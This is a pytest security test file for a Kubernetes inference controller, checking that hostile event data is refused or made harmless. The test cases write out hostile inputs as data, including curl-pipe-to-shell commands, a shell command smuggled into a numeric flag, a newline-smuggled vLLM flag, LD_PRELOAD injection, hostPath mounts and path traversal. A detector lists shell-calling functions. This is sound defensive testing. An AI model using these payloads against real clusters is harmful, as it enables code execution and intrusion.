"""Event data cannot inject: every hostile input is refused on the real path, naming the field, or rendered harmless.

Each case goes through the pure path (`templates.schema.parse_version`, `events.codec.decode`,
the controller's `to_inbound` + `DesiredState` reducer, `controller.render`), and a selection
end to end: raw messages on a real nats-server, the controller in-process with the kube sink
against the Kubernetes API emulator. Every hostile event must come back as an `event.rejected`
dead letter with its reason, and nothing hostile may reach a stored InferenceService.
"""

from __future__ import annotations

import ast
import itertools
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nats
import pytest
from kubernetes.client import CustomObjectsApi
from nats.aio.msg import Msg
from pydantic import ValidationError
from typer.testing import CliRunner

from controller.cli import app as controller_cli
from controller.cli import build_config
from controller.consumer import InvalidEvent, to_inbound
from controller.render import render_inference_service
from controller.render_config import RenderConfig
from controller.state import Deployment, DesiredState, Rejected
from events.codec import MAX_PAYLOAD_BYTES, EventDecodeError, decode, encode
from events.types import EventKind, EventRejected, TemplateVersionPublished, template_subject
from runtimes.engine_args import engine_cli_args
from runtimes.launcher import build_plan
from runtimes.settings import RuntimeSettings
from templates.schema import (
    ALLOWED_VLLM_ARGS,
    RESERVED_VLLM_ARGS,
    SWITCHES_WITHOUT_NEGATION,
    TemplateValidationError,
    parse_version,
)
from tests.k8s_emulator import KubernetesEmulator
from tests.kube.helpers import eventually, isvc
from tests.security.hostile import (
    HF_TOKEN,
    MARKER,
    SAFE_LABEL_PREFIX,
    TEAM_A,
    TEAM_B,
    on_kube,
    raw_event,
    running_controller,
    stored_problems,
    version_document,
)

REPO = Path(__file__).resolve().parents[2]
PUBLISHED = EventKind.VERSION_PUBLISHED
REQUESTED = EventKind.DEPLOYMENT_REQUESTED
DELETED = EventKind.VERSION_DELETED
MANAGED = "llm"
EXTRA = "Extra inputs are not permitted"
NOT_A_NAME = "not a valid Kubernetes name"
NOT_ALLOWED_FLAG = "not an allowed vLLM tuning flag"


@dataclass(frozen=True)
class Hostile:
    """A hostile change to a valid version document, the field its error names and a fragment of the reason."""

    id: str
    changes: dict[str, Any]
    field: str
    says: str
    end_to_end: bool = False


VERSION_CASES = [
    # pod-spec fields smuggled into the spec: the schema forbids unknown fields at every level
    Hostile("image", {"spec.image": f"registry.example/{MARKER}:latest"}, "spec.image", EXTRA, end_to_end=True),
    Hostile("command", {"spec.command": ["sh", "-c", f"curl {MARKER}.example | sh"]}, "spec.command", EXTRA),
    Hostile("args", {"spec.args": ["--trust-remote-code", MARKER]}, "spec.args", EXTRA),
    Hostile("env", {"spec.env": [{"name": "LD_PRELOAD", "value": f"/{MARKER}.so"}]}, "spec.env", EXTRA),
    Hostile(
        "hostPath volume",
        {"spec.storage.volumes": [{"name": "root", "hostPath": {"path": f"/{MARKER}"}}]},
        "spec.storage.volumes",
        EXTRA,
        end_to_end=True,
    ),
    Hostile("privileged", {"spec.resources.privileged": True}, "spec.resources.privileged", EXTRA, end_to_end=True),
    Hostile("securityContext", {"spec.securityContext": {"runAsUser": 0}}, "spec.securityContext", EXTRA),
    Hostile("hostNetwork", {"hostNetwork": True}, "hostNetwork", EXTRA, end_to_end=True),
    Hostile("serviceAccountName", {"spec.serviceAccountName": MARKER}, "spec.serviceAccountName", EXTRA),
    Hostile("nodeSelector", {"spec.resources.nodeSelector": {"kubernetes.io/hostname": MARKER}}, "spec.resources.nodeSelector", EXTRA),
    # vLLM flags: only exact, allow-listed tuning flags; the rest load code, change the listener or leak data
    Hostile(
        "vllm --config file",
        {"spec.engine.vllm_args": {"config": f"/mnt/models/{MARKER}.yaml"}},
        "spec.engine.vllm_args",
        NOT_ALLOWED_FLAG,
        end_to_end=True,
    ),
    Hostile(
        "vllm abbreviation of --trust-remote-code",
        {"spec.engine.vllm_args": {"trust_remote": True}},
        "spec.engine.vllm_args",
        NOT_ALLOWED_FLAG,
        end_to_end=True,
    ),
    Hostile("vllm --trust-remote-code", {"spec.engine.vllm_args": {"trust-remote-code": True}}, "spec.engine.vllm_args", "is reserved"),
    Hostile(
        "vllm second --served-model-name", {"spec.engine.vllm_args": {"served_model_name": MARKER}}, "spec.engine.vllm_args", "is reserved"
    ),
    Hostile("vllm --api-key", {"spec.engine.vllm_args": {"api_key": MARKER}}, "spec.engine.vllm_args", "is reserved"),
    Hostile(
        "vllm plugin module",
        {"spec.engine.vllm_args": {"tool_parser_plugin": f"/mnt/models/{MARKER}.py"}},
        "spec.engine.vllm_args",
        NOT_ALLOWED_FLAG,
    ),
    Hostile(
        "vllm worker class", {"spec.engine.vllm_args": {"worker_extension_cls": f"{MARKER}.Ext"}}, "spec.engine.vllm_args", NOT_ALLOWED_FLAG
    ),
    Hostile(
        "vllm kv connector module",
        {"spec.engine.vllm_args": {"kv_transfer_config": json.dumps({"kv_connector_module_path": MARKER})}},
        "spec.engine.vllm_args",
        NOT_ALLOWED_FLAG,
    ),
    Hostile(
        "vllm second model",
        {"spec.engine.vllm_args": {"speculative_config": json.dumps({"model": f"{MARKER}/draft"})}},
        "spec.engine.vllm_args",
        NOT_ALLOWED_FLAG,
    ),
    Hostile(
        "vllm traces elsewhere",
        {"spec.engine.vllm_args": {"otlp_traces_endpoint": f"http://{MARKER}.example"}},
        "spec.engine.vllm_args",
        NOT_ALLOWED_FLAG,
    ),
    Hostile("vllm unix socket", {"spec.engine.vllm_args": {"uds": f"/tmp/{MARKER}"}}, "spec.engine.vllm_args", NOT_ALLOWED_FLAG),
    Hostile(
        "vllm CORS",
        {"spec.engine.vllm_args": {"allowed_origins": f'["https://{MARKER}.example"]'}},
        "spec.engine.vllm_args",
        NOT_ALLOWED_FLAG,
    ),
    Hostile("launcher flag", {"spec.engine.vllm_args": {"executor": "mp"}}, "spec.engine.vllm_args", NOT_ALLOWED_FLAG),
    Hostile("vllm dotted key", {"spec.engine.vllm_args": {"compilation_config.level": 3}}, "spec.engine.vllm_args", "must be a flag name"),
    Hostile(
        "vllm shell in a number",
        {"spec.engine.vllm_args": {"max_num_batched_tokens": f"8192; curl {MARKER}|sh"}},
        "spec.engine.vllm_args",
        "takes int",
    ),
    Hostile(
        "vllm newline in a value",
        {"spec.engine.vllm_args": {"tool_call_parser": "hermes\n--trust-remote-code"}},
        "spec.engine.vllm_args",
        "control characters",
    ),
    Hostile(
        "vllm flag twice",
        {"spec.engine.vllm_args": {"max-num-batched-tokens": 1, "max_num_batched_tokens": 2}},
        "spec.engine.vllm_args",
        "given twice",
    ),
    Hostile("vllm huge value", {"spec.engine.vllm_args": {"revision": MARKER * 100}}, "spec.engine.vllm_args", "at most 256"),
    Hostile(
        "vllm switch without --no- form",
        {"spec.engine.vllm_args": {"disable_log_stats": False}},
        "spec.engine.vllm_args",
        "only be switched on",
    ),
    # names end up in object names, labels and subjects
    Hostile("name with ../", {"template.name": f"../{MARKER}"}, "template.name", NOT_A_NAME),
    Hostile("upper-case name", {"template.name": "PWNED-Chat"}, "template.name", NOT_A_NAME, end_to_end=True),
    Hostile("name with dots", {"template.name": f"{MARKER}.svc.cluster.local"}, "template.name", NOT_A_NAME),
    Hostile("64-character name", {"template.name": "p" * 64}, "template.name", "at most 63 characters"),
    Hostile("unicode name", {"template.name": "pwnéd"}, "template.name", NOT_A_NAME),
    Hostile("newline in a name", {"template.name": "pw\nned"}, "template.name", NOT_A_NAME),
    Hostile(
        "served name with a flag",
        {"spec.served_model_name": f"x --trust-remote-code {MARKER}"},
        "spec.served_model_name",
        "should match pattern",
    ),
    # labels: reserved prefixes are refused; the others only ever land under template.stokehold.dev/ (see below)
    Hostile(
        "kubernetes.io label",
        {"template.labels": {"kubernetes.io/metadata.name": MARKER}},
        "template.labels",
        "reserved prefix",
        end_to_end=True,
    ),
    Hostile("managed-by label", {"template.labels": {"app.kubernetes.io/managed-by": "stokehold"}}, "template.labels", "reserved prefix"),
    Hostile("stokehold.dev label", {"template.labels": {"stokehold.dev/template": TEAM_B}}, "template.labels", "reserved prefix"),
    Hostile(
        "label value with spaces", {"template.labels": {"team": f"a {MARKER}"}}, "template.labels", "not a valid Kubernetes label value"
    ),
    Hostile("33 labels", {"template.labels": {f"l{i}": "v" for i in range(33)}}, "template.labels", "at most 32 items"),
    # secrets travel as references only
    Hostile(
        "token instead of a reference",
        {"spec.storage.hf_token_secret": HF_TOKEN},
        "spec.storage.hf_token_secret",
        "Input should be",
        end_to_end=True,
    ),
    Hostile(
        "token as the secret name",
        {"spec.storage.hf_token_secret": {"name": HF_TOKEN}},
        "spec.storage.hf_token_secret.name",
        "never holds the token",
        end_to_end=True,
    ),
    Hostile(
        "token next to the reference",
        {"spec.storage.hf_token_secret": {"name": "hf-token", "value": HF_TOKEN}},
        "spec.storage.hf_token_secret.value",
        EXTRA,
    ),
    Hostile(
        "secret name with ../",
        {"spec.storage.hf_token_secret": {"name": f"../{MARKER}"}},
        "spec.storage.hf_token_secret.name",
        "never holds the token",
    ),
    Hostile(
        "secret key ..",
        {"spec.storage.hf_token_secret": {"name": "hf-token", "key": ".."}},
        "spec.storage.hf_token_secret.key",
        "not a valid Secret key",
    ),
    Hostile(
        "secret key with a path",
        {"spec.storage.hf_token_secret": {"name": "hf-token", "key": f"../../{MARKER}"}},
        "spec.storage.hf_token_secret.key",
        "should match pattern",
    ),
    Hostile("cache PVC with ../", {"spec.storage.cache_pvc": f"../{MARKER}"}, "spec.storage.cache_pvc", NOT_A_NAME),
    # model sources: named schemes only, no parent directories
    Hostile("file:// source", {"spec.source": f"file:///etc/{MARKER}"}, "spec.source", "is not one of"),
    Hostile("http source", {"spec.source": f"https://{MARKER}.example/model"}, "spec.source", "is not one of"),
    Hostile("s3 source with ..", {"spec.source": f"s3://bucket/../{MARKER}"}, "spec.source", "may not contain '..'"),
    Hostile("local source with ..", {"spec.source": f"/mnt/models/../../{MARKER}"}, "spec.source", "may not contain '..'"),
    # huge values
    Hostile("huge description", {"template.description": MARKER * 1000}, "template.description", "at most 2048 characters"),
    Hostile(
        "huge chat template",
        {"spec.generation.chat_template": MARKER * 20_000},
        "spec.generation.chat_template",
        "at most 65536 characters",
    ),
    Hostile("replicas beyond the cap", {"spec.scaling.max_replicas": 100_000}, "spec.scaling.max_replicas", "less than or equal to 100"),
    Hostile("GPUs beyond the cap", {"spec.resources.gpus": 1024}, "spec.resources.gpus", "less than or equal to 16"),
]


def _named(errors: list[tuple[str, str]], case: Hostile) -> bool:
    return any(path.startswith(case.field) and case.says in message for path, message in errors)


@pytest.mark.parametrize("case", VERSION_CASES, ids=lambda c: c.id)
def test_hostile_version_is_refused_naming_the_field(case: Hostile) -> None:
    document = version_document(changes=case.changes)
    with pytest.raises(TemplateValidationError) as parsed:
        parse_version(document)
    assert _named(parsed.value.errors, case), parsed.value.errors

    with pytest.raises(EventDecodeError) as decoded:  # the same document as the data of a raw event
        decode(*raw_event(PUBLISHED.ce_type, document))
    assert _named(decoded.value.errors, case), decoded.value.errors
    assert HF_TOKEN not in decoded.value.reason, "a dead letter must not repeat a token"


DEPLOYMENT_CASES = [
    ("service account in overrides", {"overrides": {"serviceAccountName": MARKER}}, "overrides.serviceAccountName", EXTRA),
    ("image in overrides", {"overrides": {"image": MARKER}}, "overrides.image", EXTRA),
    ("pod spec next to the request", {"spec": {"hostNetwork": True}}, "spec", EXTRA),
    ("namespace with ../", {"namespace": f"../{MARKER}"}, "namespace", NOT_A_NAME),
    ("upper-case namespace", {"namespace": "Kube-System"}, "namespace", NOT_A_NAME),
    ("name with dots", {"name": f"{MARKER}.kserve"}, "name", NOT_A_NAME),
    ("name with a newline", {"name": "pw\nned"}, "name", NOT_A_NAME),
    ("replicas beyond the cap", {"overrides": {"max_replicas": 100_000}}, "overrides.max_replicas", "less than or equal to 100"),
]


@pytest.mark.parametrize(("changes", "field", "says"), [c[1:] for c in DEPLOYMENT_CASES], ids=[c[0] for c in DEPLOYMENT_CASES])
def test_hostile_deployment_request_is_refused_naming_the_field(changes: dict[str, Any], field: str, says: str) -> None:
    with pytest.raises(EventDecodeError) as decoded:
        decode(*raw_event(REQUESTED.ce_type, {"template": TEAM_A, "namespace": MANAGED} | changes))
    assert any(path.startswith(field) and says in message for path, message in decoded.value.errors), decoded.value.errors


def _inbound(template_on_subject: str, kind: EventKind, ce_type: str, data: Any, sequence: int) -> Any:
    headers, payload = raw_event(ce_type, data)
    return to_inbound(template_subject(template_on_subject, kind), headers, payload, sequence, "stokehold")


def _state_with_team_a() -> DesiredState:
    state = DesiredState(allowed_namespaces=frozenset({MANAGED}))
    state.apply(_inbound(TEAM_A, PUBLISHED, PUBLISHED.ce_type, version_document(), 1))
    return state


def test_a_namespace_the_controller_does_not_manage_is_rejected() -> None:
    state = _state_with_team_a()
    with pytest.raises(Rejected, match="namespace 'team-b' is not one the controller serves: namespaces are opt-in"):
        state.apply(_inbound(TEAM_A, REQUESTED, REQUESTED.ce_type, {"template": TEAM_A, "namespace": "team-b"}, 2))
    for sequence, reserved in enumerate(("kube-system", "stokehold-system"), 3):
        with pytest.raises(Rejected, match=f"namespace '{reserved}' is reserved"):
            state.apply(_inbound(TEAM_A, REQUESTED, REQUESTED.ce_type, {"template": TEAM_A, "namespace": reserved}, sequence))
    assert state.deployments == {}


def test_the_controller_serves_no_namespace_it_is_not_given(tmp_path: Path) -> None:
    dir_sink = {"sink": "dir", "dir": tmp_path}

    with pytest.raises(ValidationError, match="serves only the namespaces it is given, and none is given"):
        build_config(dir_sink)
    with pytest.raises(ValidationError, match=r"namespaces \['kserve'\] are reserved"):
        build_config(dir_sink | {"namespaces": [MANAGED, "kserve"]})
    result = CliRunner().invoke(controller_cli, ["run", "--sink", "dir", "--dir", str(tmp_path)])
    allowed = build_config(dir_sink | {"namespaces": [MANAGED], "allow_trust_remote_code": True})

    assert result.exit_code == 2 and result.output.count("\n") == 1 and "STOKEHOLD_NAMESPACES" in result.output
    assert build_config(dir_sink | {"namespaces": [MANAGED]}).allow_trust_remote_code is False, "off unless the platform allows it"
    assert allowed.allowed_namespaces == {MANAGED} and allowed.allow_trust_remote_code


def test_a_subject_cannot_speak_for_another_template() -> None:
    """What makes per-template subject permissions mean something: the data must name the subject's template."""
    state = _state_with_team_a()
    forged = version_document(TEAM_B)
    with pytest.raises(Rejected, match=f"the subject names template '{TEAM_A}' but the data names '{TEAM_B}'"):
        state.apply(_inbound(TEAM_A, PUBLISHED, PUBLISHED.ce_type, forged, 2))
    with pytest.raises(Rejected, match="the subject names template"):
        state.apply(_inbound(TEAM_A, REQUESTED, REQUESTED.ce_type, {"template": TEAM_B, "namespace": MANAGED}, 3))
    assert state.versions.latest(TEAM_B) is None and state.deployments == {}


def test_status_events_and_kinds_cannot_be_forged_on_an_inbound_subject() -> None:
    status = {"template": TEAM_A, "namespace": MANAGED, "name": TEAM_A, "url": f"http://{MARKER}.example"}
    with pytest.raises(InvalidEvent, match="outbound event type"):
        _inbound(TEAM_A, REQUESTED, EventKind.DEPLOYMENT_READY.ce_type, status, 1)
    with pytest.raises(InvalidEvent, match="does not belong on subject"):
        _inbound(TEAM_A, PUBLISHED, REQUESTED.ce_type, {"template": TEAM_A, "namespace": MANAGED}, 1)


def test_labels_that_would_steer_kserve_or_knative_only_land_under_the_template_prefix() -> None:
    steering = {
        "serving.kserve.io/deploymentMode": "RawDeployment",
        "autoscaling.knative.dev/min-scale": "100",
        "networking.knative.dev/visibility": "cluster-local",
        "k8s.io/pwned": MARKER,
    }
    config = RenderConfig()
    clean, hostile = parse_version(version_document()), parse_version(version_document(changes={"template.labels": steering}))
    deployment = Deployment(template=TEAM_A, namespace=MANAGED, name=TEAM_A, version=None)
    before = render_inference_service(clean, deployment, config)
    after = render_inference_service(hostile, deployment, config)

    assert after["spec"] == before["spec"]
    unhashed = {k: v for k, v in after["metadata"]["annotations"].items() if "hash" not in k}
    assert unhashed == {k: v for k, v in before["metadata"]["annotations"].items() if "hash" not in k}
    added = set(after["metadata"]["labels"]) - set(before["metadata"]["labels"])
    assert added and all(key.startswith(SAFE_LABEL_PREFIX) for key in added), added
    assert stored_problems(after) == []


def test_the_walk_over_stored_objects_finds_each_kind_of_hostile_content() -> None:
    obj = isvc(TEAM_A, namespace=MANAGED)
    obj["metadata"]["labels"]["serving.kserve.io/deploymentMode"] = "RawDeployment"
    obj["metadata"]["annotations"]["note"] = MARKER
    model = obj["spec"]["predictor"]["model"]
    model["image"] = "registry.example/x"
    model["env"] = [{"name": "HF_TOKEN", "value": "hf_x"}]
    obj["spec"]["predictor"]["volumes"] = [{"name": "root", "hostPath": {"path": "/"}}]
    problems = stored_problems(obj)
    for expected in ("serving.kserve.io/deploymentMode", ".annotations.note", ".model.image", "HF_TOKEN has a literal value", "hostPath"):
        assert any(expected in problem for problem in problems), (expected, problems)
    assert stored_problems(isvc(TEAM_A, namespace=MANAGED)) == []


def test_arguments_are_data_never_a_shell_line(tmp_path: Path) -> None:
    """An allowed text flag may hold shell metacharacters: it stays one argv element up to vLLM's parser."""
    value = f"assistant; curl {MARKER}.example | sh"
    version = parse_version(version_document(changes={"spec.engine.vllm_args": {"response_role": value}}))
    args = engine_cli_args(version.spec, version.served_model_name)
    assert f"--response-role={value}" in args
    argv = [f"--model={tmp_path}", *args[1:]]
    plan = build_plan(argv, RuntimeSettings(), "auto", on_gpu=False)
    assert f"--response-role={value}" in plan.vllm_argv


def _shell_calls(path: Path) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(path.read_text(), str(path))):
        if not isinstance(node, ast.Call):
            continue
        name = ast.unparse(node.func)
        if name in {"os.system", "os.popen", "asyncio.create_subprocess_shell", "subprocess.getoutput", "subprocess.getstatusoutput"}:
            found.append(f"{path.relative_to(REPO)}:{node.lineno} {name}")
        for keyword in node.keywords:
            if keyword.arg == "shell" and not (isinstance(keyword.value, ast.Constant) and keyword.value.value is False):
                found.append(f"{path.relative_to(REPO)}:{node.lineno} {name}(shell=...)")
    return found


def test_no_shell_anywhere_between_an_event_and_the_engine() -> None:
    """The runtime image's entrypoint is exec-form (tests/runtime/test_runtime_manifests.py); nothing here starts a shell."""
    sources = [p for folder in ("controller", "runtimes", "events", "templates") for p in sorted((REPO / folder).rglob("*.py"))]
    assert sources
    assert [call for path in sources for call in _shell_calls(path)] == []


def test_allowed_vllm_args_are_exact_flags_of_the_installed_vllm() -> None:
    """An exact flag cannot be read as an abbreviation of another; a switch set to false needs its --no- form."""
    from vllm.entrypoints.launchers.cli_args import make_arg_parser
    from vllm.utils.argparse_utils import FlexibleArgumentParser

    parser = make_arg_parser(FlexibleArgumentParser(prog="vllm"))  # type: ignore[no-untyped-call]
    options = parser._option_string_actions
    assert RESERVED_VLLM_ARGS.isdisjoint(ALLOWED_VLLM_ARGS)
    for key, types in ALLOWED_VLLM_ARGS.items():
        flag = "--" + key.replace("_", "-")
        assert flag in options, f"{flag} is not a flag of vLLM's serve command"
        takes_value = options[flag].nargs != 0
        assert takes_value == (bool not in types), f"{flag}: the allowed types {types} do not fit the flag"
        if bool in types and key not in SWITCHES_WITHOUT_NEGATION:
            assert "--no-" + flag[2:] in options, f"{flag} has no --no- form: add it to SWITCHES_WITHOUT_NEGATION"


# ------------------------------------------------------------------ end to end

_runs = itertools.count()


@dataclass(frozen=True)
class Sent:
    id: str
    subject: str
    says: str
    sequence: int = 0


def end_to_end_events() -> list[tuple[str, str, EventKind, str, Any, str]]:
    """(id, template on the subject, subject kind, CloudEvent type, data, reason fragment) for the raw publishes."""
    events: list[tuple[str, str, EventKind, str, Any, str]] = []
    for case in (c for c in VERSION_CASES if c.end_to_end):
        document = version_document(changes=case.changes)
        on_subject = document["template"]["name"] if case.field == "template.name" else TEAM_A
        events.append((case.id, on_subject, PUBLISHED, PUBLISHED.ce_type, document, case.says))
    requested = REQUESTED.ce_type
    events += [
        (
            "service account in overrides",
            TEAM_A,
            REQUESTED,
            requested,
            {"template": TEAM_A, "namespace": MANAGED, "overrides": {"serviceAccountName": MARKER}},
            EXTRA,
        ),
        (
            "unmanaged namespace",
            TEAM_A,
            REQUESTED,
            requested,
            {"template": TEAM_A, "namespace": "team-b"},
            "is not one the controller serves",
        ),
        ("reserved namespace", TEAM_A, REQUESTED, requested, {"template": TEAM_A, "namespace": "kube-system"}, "is reserved"),
        ("the serving stack's namespace", TEAM_A, REQUESTED, requested, {"template": TEAM_A, "namespace": "kserve"}, "is reserved"),
        ("knative's namespace", TEAM_A, REQUESTED, requested, {"template": TEAM_A, "namespace": "knative-serving"}, "is reserved"),
        (
            "remote code with KServe's webhook key",
            TEAM_A,
            PUBLISHED,
            PUBLISHED.ce_type,
            version_document(
                version=2,
                changes={
                    "spec.engine.trust_remote_code": True,
                    "spec.storage.hf_token_secret": {"name": "kserve-webhook-server-cert", "key": "tls.key"},
                },
            ),
            "trust_remote_code",
        ),
        ("deleting a version never published", TEAM_A, DELETED, DELETED.ce_type, {"template": TEAM_A, "version": 7}, "was never published"),
        ("a version number that is text", TEAM_A, DELETED, DELETED.ce_type, {"template": TEAM_A, "version": "1"}, "version"),
        ("a version number that is a boolean", TEAM_A, PUBLISHED, PUBLISHED.ce_type, version_document(version=True), "version"),  # type: ignore[arg-type]
        ("another team's template", TEAM_A, REQUESTED, requested, {"template": TEAM_B, "namespace": MANAGED}, "the subject names template"),
        (
            "forged status event",
            TEAM_A,
            REQUESTED,
            EventKind.DEPLOYMENT_READY.ce_type,
            {"template": TEAM_A, "namespace": MANAGED, "name": TEAM_A, "url": f"http://{MARKER}.example"},
            "outbound event type",
        ),
        (
            "object not managed by stokehold",
            TEAM_A,
            REQUESTED,
            requested,
            {"template": TEAM_A, "namespace": MANAGED, "name": "payroll"},
            "is not labelled app.kubernetes.io/managed-by=stokehold",
        ),
        (
            "huge payload",
            TEAM_A,
            PUBLISHED,
            PUBLISHED.ce_type,
            version_document(changes={"template.description": MARKER * (MAX_PAYLOAD_BYTES // 5)}),
            "over the limit",
        ),
    ]
    return events


async def test_hostile_events_end_as_dead_letters_and_nothing_hostile_is_stored(k8s_emulator: KubernetesEmulator, nats_server: Any) -> None:
    kube = k8s_emulator
    kube.reset()
    root = f"sec{next(_runs)}"
    foreign = isvc("payroll", namespace=MANAGED)
    del foreign["metadata"]["labels"]["app.kubernetes.io/managed-by"]
    CustomObjectsApi(kube.api_client()).create_namespaced_custom_object(
        "serving.kserve.io", "v1beta1", MANAGED, "inferenceservices", foreign
    )
    nc = await nats.connect(nats_server.url)
    dead: dict[int, EventRejected] = {}

    async def on_dead_letter(msg: Msg) -> None:
        rejected = decode(msg.headers, msg.data).data
        assert isinstance(rejected, EventRejected)
        dead[rejected.stream_sequence or 0] = rejected

    await nc.subscribe(f"{root}.deadletter.>", cb=on_dead_letter)
    js = nc.jetstream()
    try:
        async with running_controller(on_kube(kube, nats_server.url, root) | {"namespaces": [MANAGED]}):
            # the accepted baseline: a version whose labels try to steer KServe and Knative, and a deployment
            steering = {"serving.kserve.io/deploymentMode": "RawDeployment", "networking.knative.dev/visibility": MARKER}
            version = TemplateVersionPublished.model_validate(version_document(changes={"template.labels": steering}))
            for kind, data in ((PUBLISHED, version), (REQUESTED, {"template": TEAM_A, "namespace": MANAGED})):
                headers, payload = encode(kind, data, source="/tests/security")
                await js.publish(template_subject(TEAM_A, kind, root), payload, headers=headers)
            await eventually(lambda: kube.get("isvc", MANAGED, TEAM_A), "the baseline InferenceService", limit=20)

            sent = []
            for case_id, on_subject, kind, ce_type, data, says in end_to_end_events():
                subject = template_subject(on_subject, kind, root)
                headers, payload = raw_event(ce_type, data)
                ack = await js.publish(subject, payload, headers=headers)
                sent.append(Sent(case_id, subject, says, ack.seq))
            await eventually(lambda: all(s.sequence in dead for s in sent), "a dead letter for every hostile event", limit=30)
    finally:
        await nc.drain()

    for s in sent:
        letter = dead[s.sequence]
        assert letter.subject == s.subject and s.says in letter.reason, (s.id, letter.reason)
        assert HF_TOKEN not in letter.reason, f"{s.id}: the dead letter repeats the token"
    stored = kube.objects("isvc")
    assert sorted((o["metadata"]["namespace"], o["metadata"]["name"]) for o in stored) == [(MANAGED, "payroll"), (MANAGED, TEAM_A)]
    managed = kube.get("isvc", MANAGED, TEAM_A)
    assert managed is not None and stored_problems(managed) == []
    untouched = kube.get("isvc", MANAGED, "payroll")
    assert untouched is not None and untouched["metadata"]["labels"] == foreign["metadata"]["labels"]
    assert untouched["spec"] == foreign["spec"]
